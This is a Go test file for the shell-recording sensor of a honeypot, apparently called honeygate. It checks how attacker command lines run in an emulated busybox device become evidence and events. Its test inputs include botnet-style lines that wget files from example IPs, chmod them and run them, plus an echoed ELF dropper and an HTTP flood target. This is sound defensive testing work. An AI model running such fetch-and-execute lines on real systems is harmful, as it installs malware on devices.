package shellrec_test

import (
	"testing"

	"github.com/honeygate/honeygate/internal/attrib"
	"github.com/honeygate/honeygate/internal/event"
	"github.com/honeygate/honeygate/internal/sensor/busybox"
	"github.com/honeygate/honeygate/internal/sensor/shellrec"
)

func newEvent(k event.Kind) *event.Event { return &event.Event{Kind: k} }

// A line with a download that runs, one that does not (the fallback after
// a || that was not needed) and an unknown applet, run in a real shell.
func TestLine(t *testing.T) {
	dev, err := busybox.NewDevice(busybox.DefaultProfile(), busybox.DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	sh := dev.NewShell(t.Context())
	defer sh.Close()
	line := "cd /tmp || wget http://198.51.100.1/a; wget http://198.51.100.2/b -O b; /bin/busybox KAMI"
	r := sh.Run(line)

	obs := shellrec.Evidence(line, r)
	want := []attrib.Observation{{Input: line}, {Marker: "KAMI"}}
	for _, d := range r.Downloads {
		want = append(want, attrib.Observation{URL: d.URL})
	}
	if len(obs) != len(want) || len(r.Downloads) != 2 {
		t.Fatalf("evidence %+v, want %+v (downloads %+v)", obs, want, r.Downloads)
	}
	for i := range want {
		if obs[i] != want[i] {
			t.Errorf("evidence %d: %+v, want %+v", i, obs[i], want[i])
		}
	}

	evs := shellrec.Events(line, r, newEvent)
	if len(evs) != 3 || evs[0].Kind != event.CommandInput || string(evs[0].Input) != line || evs[0].Output != event.Text(r.Output) {
		t.Fatalf("events %+v", evs)
	}
	ran := map[string]bool{}
	for _, e := range evs[1:] {
		if e.Kind != event.FileDownload || e.Ran == nil || e.Tool != "wget" {
			t.Fatalf("download event %+v", e)
		}
		ran[string(e.URL)] = *e.Ran
	}
	if ran["http://198.51.100.1/a"] || !ran["http://198.51.100.2/b"] {
		t.Errorf("ran %v: want only b run", ran)
	}
}

// What is typed with echo off is neither evidence nor published text.
func TestSecret(t *testing.T) {
	r := busybox.Result{Secret: true, Output: []byte("passwd: password changed\n")}
	if obs := shellrec.Evidence("hunter2", r); len(obs) != 0 {
		t.Errorf("evidence %+v", obs)
	}
	evs := shellrec.Events("hunter2", r, newEvent)
	if len(evs) != 1 || evs[0].Input != "" || evs[0].Output == "" {
		t.Errorf("events %+v", evs)
	}
}

// A flood target is its own kind, never a download; the output is bounded.
func TestFloodAndBound(t *testing.T) {
	r := busybox.Result{Floods: []busybox.Flood{{URL: "http://203.0.113.5/", Tool: "wget", Requests: 40, Ran: true}},
		Output: make([]byte, 3*shellrec.MaxOutput)}
	evs := shellrec.Events("x", r, newEvent)
	if len(evs) != 2 || evs[1].Kind != event.AttackHTTPFlood || evs[1].TargetURL != "http://203.0.113.5/" ||
		evs[1].Requests != 40 || evs[1].Ran == nil || !*evs[1].Ran || len(evs[0].Output) > shellrec.MaxOutput+len("…[truncated]") {
		t.Errorf("events %+v", evs)
	}
}

// A line the device cannot finish says which budget it hit, in a real
// shell: the record shows the device still "running" it.
func TestLimit(t *testing.T) {
	dev, err := busybox.NewDevice(busybox.DefaultProfile(), busybox.DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	sh := dev.NewShell(t.Context())
	defer sh.Close()
	line := "while true; do echo x; done"
	r := sh.Run(line)
	evs := shellrec.Events(line, r, newEvent)
	if !r.Running || len(evs) != 1 || evs[0].Limit != "loop" {
		t.Fatalf("running %v, events %+v", r.Running, evs)
	}
	if evs := shellrec.Events("echo ok", sh.Run("echo ok"), newEvent); evs[0].Limit != "" {
		t.Errorf("type-ahead has limit %q", evs[0].Limit)
	}
}

// A program written with echo and run becomes a file.upload (tool shell)
// with its hash, after the line's command; one run from a fake download's
// placeholder does not.
func TestDroppedUpload(t *testing.T) {
	dev, err := busybox.NewDevice(busybox.DefaultProfile(), busybox.DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	sh := dev.NewShell(t.Context())
	defer sh.Close()
	line := `cd /tmp; echo -ne '\x7f\x45\x4c\x46\x01\x01\x01\x00\x00' > .s; chmod +x .s; ./.s; wget http://198.51.100.3/m -O m; chmod +x m; ./m`
	r := sh.Run(line)
	var ups []*event.Event
	for _, e := range shellrec.Events(line, r, newEvent) {
		if e.Kind == event.FileUpload {
			ups = append(ups, e)
		}
	}
	// sha256 of the nine bytes echoed: printf '\x7fELF\x01\x01\x01\x00\x00' | sha256sum
	const want = "dce6aafc49cbb2fe280da382e0ab6900b26171c21db94b3e04af590edfee753d"
	if len(ups) != 1 {
		t.Fatalf("uploads %+v, want one", ups)
	}
	u := ups[0]
	if string(u.Tool) != shellrec.DroppedTool || u.Filename != "/tmp/.s" || u.UploadSize != 9 || u.SHA256 != want {
		t.Errorf("upload %+v", u)
	}
}
